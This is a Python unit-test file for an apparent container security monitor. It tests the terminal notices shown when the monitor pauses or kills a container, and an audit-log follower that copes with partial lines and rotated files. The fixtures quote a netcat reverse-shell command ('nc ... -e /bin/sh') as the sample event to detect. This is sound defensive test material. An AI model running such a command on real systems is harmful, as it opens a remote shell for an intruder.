"""The block the terminal of `run` shows for an action, and following an audit log for them."""

import orjson
import pytest

from coi_sentinel.audit.notices import AuditFollower, block

pytestmark = pytest.mark.unit

PAUSE = {"record": "action", "action": "pause", "by": "rules", "rule": "reverse_shell_socket_dup",
         "severity": "critical", "container": "coi-1a2b3c4d-1", "pid": 4242,
         "process": {"name": "nc", "exe": "/bin/nc", "cmdline": "nc 10.123.45.1 38123 -e /bin/sh"},
         "output": "Network socket duplicated onto stdio, a reverse shell (fd=1 oldfd=0 "
                   "dest=10.123.45.1:38123 proc=nc exe=/bin/nc cmdline=nc 10.123.45.1 38123 -e "
                   "/bin/sh parent=sh container=coi-1a2b3c4d-1)",
         "ok": True, "target": "/sys/fs/cgroup/lxc.payload.coi-1a2b3c4d-1", "freeze_ns": 900_000,
         "event_ts_ns": 10, "latency_ns": 4_100_000, "ts_ns": 4_100_010}


def test_pause_block_says_what_why_who_and_how_fast():
    text = block(PAUSE)
    lines = text.splitlines()
    assert all(len(line) <= 78 for line in lines)
    assert lines[0].startswith("== coi-sentinel: coi-1a2b3c4d-1 PAUSED ==")
    assert "  rule     reverse_shell_socket_dup (critical)" in lines
    assert any(line.startswith("  why      Network socket duplicated") for line in lines)
    assert "  process  pid 4242 nc: nc 10.123.45.1 38123 -e /bin/sh" in lines
    assert "  action   pause: the container is frozen, 4.1 ms after the event" in lines
    assert "  next     coi-sentinel resume-session coi-1a2b3c4d-1" in lines
    assert lines[-1] == "=" * 78


def test_kill_fail_and_fail_closed_blocks():
    kill = {**PAUSE, "action": "kill-process", "killed_pids": [1, 2, 3], "latency_ns": 2_500_000}
    assert "kill-process: pid 1, 2, 3 killed, 2.5 ms after the event" in block(kill)
    many = block({**kill, "killed_pids": list(range(10))})
    assert "pid 0, 1, 2, 3, 4, 5 and 4 more killed" in many
    assert "resume-session" not in block(kill)
    failed = {**PAUSE, "ok": False, "error": "cannot freeze x: No such file or directory"}
    assert "PAUSED FAILED" in block(failed) and "pause FAILED: cannot freeze" in block(failed)
    guardian = {"record": "action", "action": "pause", "by": "guardian", "ok": True,
                "container": "c1", "reason": "the monitor's process (pid 7) died"}
    text = block(guardian)
    assert "  why      the monitor's process (pid 7) died" in text and "(by the guardian)" in text
    kernel = {"record": "action", "action": "kill-process", "by": "kernel", "ok": True,
              "container": "c1", "pid": 9, "process": {"name": "nc", "cmdline": "nc x 4444"},
              "output": "killed in the kernel: connect to 1.2.3.4:4444 (blocked)"}
    assert "SIGKILL from the probe, inside the syscall" in block(kernel)


def test_a_skipped_action_is_one_line():
    text = block({**PAUSE, "skipped": "target already paused"})
    assert "\n" not in text and len(text) <= 78
    assert text.startswith("== coi-sentinel: coi-1a2b3c4d-1 also: reverse_shell_socket_dup")


def _line(rec: dict) -> bytes:
    return orjson.dumps(rec) + b"\n"


def test_follower_starts_at_the_end_and_reads_whole_new_actions(tmp_path):
    log = tmp_path / "s.jsonl"
    log.write_bytes(_line({"record": "header"}) + _line({**PAUSE, "rule": "old"}))
    f = AuditFollower(log)
    assert f.poll() == []                                  # what was there before is not shown
    line = _line(PAUSE)
    with open(log, "ab") as out:
        out.write(_line({"type": "exec", "pid": 1}) + line[:30])    # half a line so far
    assert f.poll() == []
    with open(log, "ab") as out:
        out.write(line[30:])
    [rec] = f.poll()
    assert rec.rule == "reverse_shell_socket_dup" and not f.detach


def test_follower_rereads_a_rotated_file_and_detaches_on_a_pause(tmp_path):
    log = tmp_path / "s.jsonl"
    log.write_bytes(_line({"record": "header"}) * 50)
    f = AuditFollower(log)
    log.rename(tmp_path / "s.000001.jsonl")                # rotation: a new active file
    log.write_bytes(_line({"record": "header"}) + _line(PAUSE))
    text = f.text()
    assert b"PAUSED" in text and b"\r\n" in text and b"\n\n" not in text.replace(b"\r\n", b"")
    assert f.detach is True
